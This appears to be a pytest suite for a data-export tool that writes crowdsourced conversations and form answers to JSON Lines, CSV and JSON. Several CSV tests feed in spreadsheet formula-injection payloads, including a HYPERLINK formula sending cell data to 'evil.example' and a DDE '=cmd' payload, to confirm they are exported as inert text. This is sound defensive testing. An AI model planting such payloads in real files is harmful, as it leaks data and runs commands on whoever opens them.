"""`datastore.export` and `python -m datastore export`: a run's conversations as JSON Lines
(one conversation a line) or CSV (one message a row), a form run's answers as CSV (one
answer a row) and its report as JSON, written whole or not at all."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from datastore import InvalidValue, MTurkDataHandler, NotFound
from datastore.export import (
    CSV_COLUMNS,
    FORM_ANSWER_COLUMNS,
    export_csv,
    export_form_answers_csv,
    export_form_report,
    export_jsonl,
)
from tests.support.builders import Built, assignment_in, completed_conversation
from tests.support.form_runs import comparison_run

REPO_ROOT = Path(__file__).resolve().parents[2]
TRICKY_TEXTS = (
    "plain words",
    'commas, "double quotes", and \'single\' ones',
    "line one\nline two\r\nline three",
    "emoji 😀🎉 and accents: café, naïve, 日本語",
    "<script>alert('x')</script>",
    "=SUM(A1:A2) starts like a formula",
    "",
)


def three_conversations(handler: MTurkDataHandler) -> Built:
    """A run with conversations t_1, t_2 and t_3, each between its own pair of workers."""
    built = completed_conversation(handler)
    completed_conversation(handler, run_id=built.run_id, conversation_id="t_2", workers=("W3", "W4"))
    completed_conversation(handler, run_id=built.run_id, conversation_id="t_3", workers=("W5", "W6"),
                           turns=3)
    return built


def jsonl_lines(handler: MTurkDataHandler, run_id: str) -> tuple[int, list[dict]]:
    out = io.StringIO()
    count = export_jsonl(handler, run_id, out)
    text = out.getvalue()
    assert text == "" or text.endswith("\n")
    return count, [json.loads(line) for line in text.splitlines()]


def csv_rows(handler: MTurkDataHandler, run_id: str) -> tuple[int, list[dict[str, str]]]:
    out = io.StringIO(newline="")
    count = export_csv(handler, run_id, out)
    reader = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return count, list(reader)


def exported_files(directory: Path) -> set[Path]:
    """Files under `directory`, less the per-test SQLite store and its WAL companions."""
    return {p for p in directory.rglob("*") if not p.name.startswith("parley.db")}


def run_cli(*args: str, store_url: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PARLEY_DATABASE_URL": store_url}
    return subprocess.run(
        [sys.executable, "-m", "datastore", "export", *args],
        cwd=REPO_ROOT, env=env, capture_output=True, text=True, encoding="utf-8", timeout=120,
    )


# JSON Lines ------------------------------------------------------------------------------


def test_jsonl_export_writes_one_conversation_per_line_in_message_order(handler):
    built = three_conversations(handler)

    count, lines = jsonl_lines(handler, built.run_id)

    assert count == 3
    assert [line["conversation_id"] for line in lines] == ["t_1", "t_2", "t_3"]
    first = lines[0]
    assert first["run_id"] == built.run_id
    assert (first["taskname"], first["provider"], first["is_sandbox"]) == ("qa_data_collection", "mturk", False)
    assert first["started"] <= first["ended"]
    assert [turn["text"] for turn in first["dialog"]] == [
        "Read the paragraph.", "Asker says 0", "Answerer says 0", "Asker says 1", "Answerer says 1",
    ]
    assert [turn["id"] for turn in first["dialog"]] == ["System", "Asker", "Answerer", "Asker", "Answerer"]
    assert [turn["worker_id"] for turn in first["dialog"]] == [None, "W1", "W2", "W1", "W2"]
    assert [turn.get("episode_done") for turn in first["dialog"]] == [None, False, False, True, True]
    timestamps = [turn["timestamp"] for turn in first["dialog"]]
    assert timestamps == sorted(timestamps)
    assert len(lines[2]["dialog"]) == 1 + 3 * 2


def test_jsonl_export_keeps_each_conversations_workers_and_custom_data(handler):
    built = three_conversations(handler)

    _, lines = jsonl_lines(handler, built.run_id)

    assert [[w["worker_id"] for w in line["workers"]] for line in lines] == [
        ["W1", "W2"], ["W3", "W4"], ["W5", "W6"],
    ]
    assert [w["agent_id"] for w in lines[1]["workers"]] == ["Asker", "Answerer"]
    assert all(w["data"] == {"rating": 4} for line in lines for w in line["workers"])
    assert all(line["custom_data"] == {"topic": "geography"} for line in lines)


def test_jsonl_export_keeps_every_key_of_the_act_and_writes_unicode_unescaped(handler):
    built = completed_conversation(handler)
    handler.log_message(built.run_id, built.conversation_id, "Asker",
                        {"text": "line one\nline two 😀", "episode_done": True,
                         "task_data": {"score": 3}, "extra": [1, 2]},
                        worker_id="W1", assignment_id=built.assignments[0], turn_index=2)
    out = io.StringIO()

    export_jsonl(handler, built.run_id, out)

    assert out.getvalue().count("\n") == 1
    assert "😀" in out.getvalue()
    last = json.loads(out.getvalue())["dialog"][-1]
    assert last["text"] == "line one\nline two 😀"
    assert (last["task_data"], last["extra"], last["turn_index"]) == ({"score": 3}, [1, 2], 2)
    assert (last["assignment_id"], last["worker_id"]) == (built.assignments[0], "W1")


def test_export_of_a_run_without_conversations_writes_nothing(handler):
    run_id = handler.log_new_run(3, "qa_data_collection")

    assert jsonl_lines(handler, run_id) == (0, [])
    assert csv_rows(handler, run_id) == (0, [])


def test_export_of_an_unknown_run_raises_not_found_and_writes_nothing(handler):
    for export in (export_jsonl, export_csv, export_form_answers_csv):
        out = io.StringIO()
        with pytest.raises(NotFound, match="no run 'nope'"):
            export(handler, "nope", out)
        assert out.getvalue() == ""


def test_export_streams_past_one_page_of_conversations(handler, monkeypatch):
    built = three_conversations(handler)
    asked: list[str] = []
    iterate = handler.iter_full_conversations

    def pages_of_two(run_id, batch=200):
        asked.append(run_id)
        return iterate(run_id, batch=2)

    monkeypatch.setattr(handler, "iter_full_conversations", pages_of_two)

    count, lines = jsonl_lines(handler, built.run_id)

    assert asked == [built.run_id], "the export reads through the paging reader"
    assert count == 3
    assert [line["conversation_id"] for line in lines] == ["t_1", "t_2", "t_3"]


# CSV -------------------------------------------------------------------------------------


def test_csv_export_writes_one_row_per_message_in_order(handler):
    built = three_conversations(handler)

    count, rows = csv_rows(handler, built.run_id)

    assert count == len(rows) == 5 + 5 + 7
    assert [row["conversation_id"] for row in rows] == ["t_1"] * 5 + ["t_2"] * 5 + ["t_3"] * 7
    first = rows[:5]
    assert [row["message_index"] for row in first] == ["0", "1", "2", "3", "4"]
    assert [row["turn_index"] for row in first] == ["", "0", "0", "1", "1"]
    assert [row["sender_id"] for row in first] == ["System", "Asker", "Answerer", "Asker", "Answerer"]
    assert [row["worker_id"] for row in first] == ["", "W1", "W2", "W1", "W2"]
    assert [row["assignment_id"] for row in first] == ["", *built.assignments, *built.assignments]
    assert [row["episode_done"] for row in first] == ["false", "false", "false", "true", "true"]
    assert {row["run_id"] for row in rows} == {built.run_id}
    assert [row["worker_id"] for row in rows[5:10]] == ["", "W3", "W4", "W3", "W4"]


def test_csv_payload_is_the_whole_message_as_json(handler):
    built = completed_conversation(handler)

    _, rows = csv_rows(handler, built.run_id)

    opening = json.loads(rows[0]["payload"])
    assert opening["task_data"] == {"paragraph": "Paris is in France."}
    reply = json.loads(rows[1]["payload"])
    assert (reply["id"], reply["worker_id"], reply["text"]) == ("Asker", "W1", "Asker says 0")
    assert float(rows[1]["timestamp"]) == reply["timestamp"]


def test_csv_export_round_trips_commas_quotes_newlines_emoji_and_markup(handler):
    built = completed_conversation(handler, turns=0)
    for n, text in enumerate(TRICKY_TEXTS):
        handler.log_message(built.run_id, built.conversation_id, "Asker", {"text": text},
                            worker_id="W1", assignment_id=built.assignments[0],
                            client_msg_id=f"tricky-{n}", turn_index=n)

    count, rows = csv_rows(handler, built.run_id)

    tricky = rows[1:]
    assert count == 1 + len(TRICKY_TEXTS)
    assert [row["text"].removeprefix("'") for row in tricky] == list(TRICKY_TEXTS)
    assert [json.loads(row["payload"])["text"] for row in tricky] == list(TRICKY_TEXTS)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_like_a_formula_are_exported_as_text(handler, store_url, tmp_path, start):
    built = completed_conversation(handler, turns=0)
    attack = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    handler.log_message(built.run_id, built.conversation_id, "Asker", {"text": attack, "task_data": {"k": attack}},
                        worker_id="W1", assignment_id=built.assignments[0], client_msg_id="attack")
    out = tmp_path / "run.csv"

    result = run_cli("--run", built.run_id, "--format", "csv", "--out", str(out), store_url=store_url)

    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as exported:
        rows = list(csv.reader(exported))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    [row] = [dict(zip(rows[0], r)) for r in rows[1:] if r[rows[0].index("sender_id")] == "Asker"]
    assert row["text"] == "'" + attack
    assert json.loads(row["payload"])["text"] == attack  # the exact message is still there


# The command line ------------------------------------------------------------------------


def test_cli_writes_the_jsonl_export_to_the_out_file_and_a_summary_to_stderr(handler, store_url, tmp_path):
    built = three_conversations(handler)
    out = tmp_path / "run.jsonl"

    result = run_cli("--run", built.run_id, "--format", "jsonl", "--out", str(out), store_url=store_url)

    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr.strip() == f"wrote 3 conversations of run {built.run_id!r} to {out}"
    lines = out.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["conversation_id"] for line in lines] == ["t_1", "t_2", "t_3"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_cli_writes_csv_to_stdout_without_out(handler, store_url):
    built = completed_conversation(handler)
    handler.log_message(built.run_id, built.conversation_id, "Asker", {"text": 'a, "b"\n😀 <script>'})

    result = run_cli("--run", built.run_id, "--format", "csv", store_url=store_url)

    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == 6
    assert rows[-1]["text"] == 'a, "b"\n😀 <script>'


def test_cli_uses_the_db_option_over_the_default_store(handler, store_url, tmp_path):
    built = completed_conversation(handler)
    out = tmp_path / "run.csv"
    elsewhere = f"sqlite:///{tmp_path / 'other.db'}"

    result = run_cli("--run", built.run_id, "--format", "csv", "--out", str(out), "--db", store_url,
                     store_url=elsewhere)

    assert result.returncode == 0, result.stderr
    assert len(list(csv.DictReader(out.open(encoding="utf-8", newline="")))) == 5


def test_cli_replaces_an_existing_out_file_only_when_the_export_succeeds(handler, store_url, tmp_path):
    built = completed_conversation(handler)
    out = tmp_path / "run.jsonl"
    out.write_text("previous export\n", encoding="utf-8")

    failed = run_cli("--run", "nope", "--format", "jsonl", "--out", str(out), store_url=store_url)
    assert failed.returncode == 2
    assert out.read_text(encoding="utf-8") == "previous export\n"

    done = run_cli("--run", built.run_id, "--format", "jsonl", "--out", str(out), store_url=store_url)
    assert done.returncode == 0, done.stderr
    assert json.loads(out.read_text(encoding="utf-8"))["conversation_id"] == "t_1"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("run")) == ["run.jsonl"]


def test_cli_exports_an_empty_run_as_an_empty_file(handler, store_url, tmp_path):
    run_id = handler.log_new_run(3, "qa_data_collection")
    out = tmp_path / "empty.jsonl"

    result = run_cli("--run", run_id, "--format", "jsonl", "--out", str(out), store_url=store_url)

    assert result.returncode == 0, result.stderr
    assert out.read_text(encoding="utf-8") == ""
    assert result.stderr.startswith("wrote 0 conversations")


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--run", "nope", "--format", "jsonl", "--out", "{tmp}/out.jsonl"],
         "there is no run 'nope' in the store."),
        (["--run", "{run}", "--format", "xml", "--out", "{tmp}/out.xml"],
         "argument --format: invalid choice: 'xml' (choose from 'jsonl', 'csv', 'answers-csv', 'form-report')."),
        (["--format", "jsonl", "--out", "{tmp}/out.jsonl"],
         "the following arguments are required: --run."),
        (["--run", "{run}", "--format", "jsonl", "--out", "{tmp}/missing/out.jsonl"],
         "cannot write '{tmp}/missing/out.jsonl': No such file or directory."),
        (["--run", "{run}", "--format", "csv", "--out", "{tmp}"], "is a directory, not a file."),
        (["--run", "{run}", "--format", "csv", "--out", "{tmp}/out.csv", "--db", "not a url"],
         "'not a url' is not a database URL."),
        (["--run", "{run}", "--format", "answers-csv", "--out", "{tmp}/out.csv"],
         "is not a form run (it has no form items); export its conversations as jsonl or csv."),
        (["--run", "{run}", "--format", "form-report", "--out", "{tmp}/report.json"],
         "is not a form run, so it has no form report; export its conversations as jsonl or csv."),
        (["--run", "nope", "--format", "form-report", "--out", "{tmp}/report.json"],
         "there is no run 'nope' in the store."),
    ],
    ids=["unknown-run", "bad-format", "missing-run", "unwritable-out", "out-is-a-directory", "bad-db-url",
         "answers-of-a-chat-run", "report-of-a-chat-run", "report-of-an-unknown-run"],
)
def test_cli_refuses_bad_arguments_with_one_sentence_and_exit_code_2(
    handler, store_url, tmp_path, args, says
):
    built = completed_conversation(handler)
    args = [a.format(run=built.run_id, tmp=tmp_path) for a in args]
    before = exported_files(tmp_path)

    result = run_cli(*args, store_url=store_url)

    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith("parley export: error: ")
    assert says.format(tmp=tmp_path) in result.stderr
    assert "Traceback" not in result.stderr
    assert exported_files(tmp_path) == before


def test_cli_leaves_neither_the_out_file_nor_a_temporary_file_when_the_run_is_unknown(
    store_url, tmp_path
):
    out = tmp_path / "out.csv"

    result = run_cli("--run", "nope", "--format", "csv", "--out", str(out), store_url=store_url)

    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert exported_files(tmp_path) == set()


# Form runs -------------------------------------------------------------------------------

FORM_ITEMS = [
    {"item_id": "i1", "data": {"text": "The cat sat."}, "gold": None},
    {"item_id": "i2", "data": {"text": "=1+1"}, "gold": None},
    {"item_id": "g1", "data": {"text": "A known one."}, "gold": {"label": "yes"}},
]
ORDER = {item["item_id"]: n for n, item in enumerate(FORM_ITEMS)}


def form_run(handler: MTurkDataHandler, answers: dict[str, list[dict]]) -> tuple[str, dict[str, str]]:
    """A form run whose workers (the keys of `answers`) each have a conversation of their own
    (f_W1, ...) and answer the items handed to them (half of them golds when more than one), in
    the run's order, with their answers in turn. Answers the run id and each worker's assignment."""
    run_id = handler.log_new_run(2, "rate_sentences", provider="local")
    handler.register_form_items(run_id, FORM_ITEMS)
    assignments = {}
    for n, (worker_id, given) in enumerate(answers.items()):
        assignment_id = assignment_in(handler, run_id, worker_id, n, "in_task", conversation_id=f"f_{worker_id}")
        gold_rate = 0.5 if len(given) > 1 else 0.0
        claimed = handler.claim_form_items(run_id, assignment_id, worker_id, len(given), 2, gold_rate)
        for item, answer in zip(sorted(claimed, key=lambda item: ORDER[item.item_id]), given):
            handler.log_form_answer(run_id, assignment_id, worker_id, item.item_id, answer)
        handler.log_complete_assignment(worker_id, assignment_id)
        assignments[worker_id] = assignment_id
    return run_id, assignments


def answers_csv(handler: MTurkDataHandler, run_id: str) -> tuple[int, list[str], list[dict[str, str]]]:
    out = io.StringIO(newline="")
    count = export_form_answers_csv(handler, run_id, out)
    reader = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    return count, list(reader.fieldnames or ()), list(reader)


def test_jsonl_lines_of_a_form_run_carry_their_workers_answers_with_each_items_data(handler):
    run_id, assignments = form_run(handler, {
        "W1": [{"label": "no"}, {"label": "yes"}],  # i1, then g1
        "W2": [{"label": "yes", "note": "hmm"}],  # i2
    })

    _, lines = jsonl_lines(handler, run_id)

    by_conversation = {line["conversation_id"]: line["form_answers"] for line in lines}
    assert sorted(by_conversation) == ["f_W1", "f_W2"]
    assert [(a["item_id"], a["answers"], a["data"], a["is_gold"], a["gold_correct"])
            for a in by_conversation["f_W1"]] == [
        ("i1", {"label": "no"}, {"text": "The cat sat."}, False, None),
        ("g1", {"label": "yes"}, {"text": "A known one."}, True, True),
    ]
    [w2] = by_conversation["f_W2"]
    assert (w2["item_id"], w2["worker_id"], w2["assignment_id"], w2["data"]) == (
        "i2", "W2", assignments["W2"], {"text": "=1+1"})
    assert w2["answered_at"] == handler.get_form_answers(run_id, worker_id="W2")[0]["answered_at"]


def test_jsonl_lines_of_a_chat_run_have_no_form_answers(handler):
    _, lines = jsonl_lines(handler, completed_conversation(handler).run_id)
    assert lines and all("form_answers" not in line for line in lines)


def test_the_answers_csv_has_a_row_per_answer_and_a_column_per_field_in_the_order_first_answered(handler):
    run_id, assignments = form_run(handler, {
        "W1": [{"label": "no", "score": 2}, {"label": "yes", "score": 5}],  # i1, then g1
        "W2": [{"label": "yes", "note": "=cmd|' /C calc'!A0", "tags": ["a", "b"]}],  # i2
    })

    count, header, rows = answers_csv(handler, run_id)

    assert count == len(rows) == 3
    assert header == [*FORM_ANSWER_COLUMNS, "label", "score", "note", "tags", "answers", "signals", "flags"]
    assert [(r["worker_id"], r["item_id"], r["is_gold"], r["gold_correct"]) for r in rows] == [
        ("W1", "i1", "false", ""), ("W1", "g1", "true", "true"), ("W2", "i2", "false", "")]
    assert [(r["label"], r["score"], r["note"], r["tags"]) for r in rows] == [
        ("no", "2", "", ""), ("yes", "5", "", ""), ("yes", "", "'=cmd|' /C calc'!A0", '["a","b"]')]
    assert json.loads(rows[2]["answers"]) == {"label": "yes", "note": "=cmd|' /C calc'!A0", "tags": ["a", "b"]}
    assert {r["run_id"] for r in rows} == {run_id}
    assert [r["assignment_id"] for r in rows] == [assignments["W1"], assignments["W1"], assignments["W2"]]
    stored = handler.get_form_answers(run_id)
    assert [float(r["answered_at"]) for r in rows] == [a["answered_at"] for a in stored]


def test_a_field_named_like_a_fixed_column_gets_a_column_of_its_own(handler):
    run_id, _ = form_run(handler, {"W1": [{"item_id": "mine", "answers": 3}]})

    _, header, [row] = answers_csv(handler, run_id)

    assert header == [*FORM_ANSWER_COLUMNS, "field:item_id", "field:answers", "answers", "signals", "flags"]
    assert (row["item_id"], row["field:item_id"], row["field:answers"]) == ("i1", "mine", "3")


def test_the_answers_csv_carries_how_free_text_answers_were_composed_and_their_flags(handler):
    run_id = handler.log_new_run(2, "rate_sentences", provider="local")
    handler.register_form_items(run_id, FORM_ITEMS)
    assignment_id = assignment_in(handler, run_id, "W1", 0, "in_task", conversation_id="f_W1")
    [item] = handler.claim_form_items(run_id, assignment_id, "W1", 1, 2, 0.0)
    signals = {"note": {"compose_ms": 100, "keys": 0, "chars": 4, "pasted_count": 1, "pasted_chars": 4,
                        "inserted_chars": 0, "hidden_ms": 0}}
    handler.log_form_answer(run_id, assignment_id, "W1", item.item_id, {"label": "no", "note": "=1+1"},
                            signals=signals, flags=[{"field": "note", "flag": "pasted", "detail": {"count": 1}},
                                                    {"field": "label", "flag": "no_signals", "detail": {}}])

    _, _, [row] = answers_csv(handler, run_id)

    assert json.loads(row["signals"]) == signals
    assert row["flags"] == "note:pasted;label:no_signals"


def test_the_answers_csv_of_a_form_run_without_answers_is_its_header(handler):
    run_id, _ = form_run(handler, {})
    assert answers_csv(handler, run_id) == (0, [*FORM_ANSWER_COLUMNS, "answers", "signals", "flags"], [])


@pytest.mark.parametrize(("export", "says"), [
    (export_form_answers_csv, r"is not a form run \(it has no form items\)"),
    (export_form_report, "is not a form run, so it has no form report"),
], ids=["answers-csv", "form-report"])
def test_a_form_export_of_a_run_that_is_not_a_form_run_is_refused_before_anything_is_written(
    handler, export, says
):
    out = io.StringIO()
    with pytest.raises(InvalidValue, match=says):
        export(handler, completed_conversation(handler).run_id, out)
    assert out.getvalue() == ""


def test_cli_writes_the_answers_csv_to_the_out_file_and_a_summary_to_stderr(handler, store_url, tmp_path):
    run_id, _ = form_run(handler, {"W1": [{"label": "no"}, {"label": "yes"}], "W2": [{"label": "+SUM(A1)"}]})
    out = tmp_path / "answers.csv"

    result = run_cli("--run", run_id, "--format", "answers-csv", "--out", str(out), store_url=store_url)

    assert result.returncode == 0, result.stderr
    assert result.stderr.strip() == f"wrote 3 answers of run {run_id!r} to {out}"
    with out.open(encoding="utf-8", newline="") as exported:
        rows = list(csv.DictReader(exported))
    assert [row["label"] for row in rows] == ["no", "yes", "'+SUM(A1)"]


def test_the_form_report_export_is_the_runs_report_as_one_json_document(handler):
    run_id = comparison_run(handler)
    out = io.StringIO()

    assert export_form_report(handler, run_id, out) == 1

    assert out.getvalue().endswith("}\n")
    assert json.loads(out.getvalue()) == json.loads(json.dumps(handler.form_report(run_id)))


def test_cli_writes_the_form_report_to_the_out_file_and_a_summary_to_stderr(handler, store_url, tmp_path):
    run_id = comparison_run(handler)
    out = tmp_path / "report.json"

    result = run_cli("--run", run_id, "--format", "form-report", "--out", str(out), store_url=store_url)

    assert result.returncode == 0, result.stderr
    assert result.stderr.strip() == f"wrote 1 report of run {run_id!r} to {out}"
    report = json.loads(out.read_text(encoding="utf-8"))
    [m1_m2, _] = report["comparison"]["win_rates"]["pairs"]
    assert (m1_m2["wins_a"], m1_m2["total"], m1_m2["p_value"]) == (9, 10, pytest.approx(0.021484375))
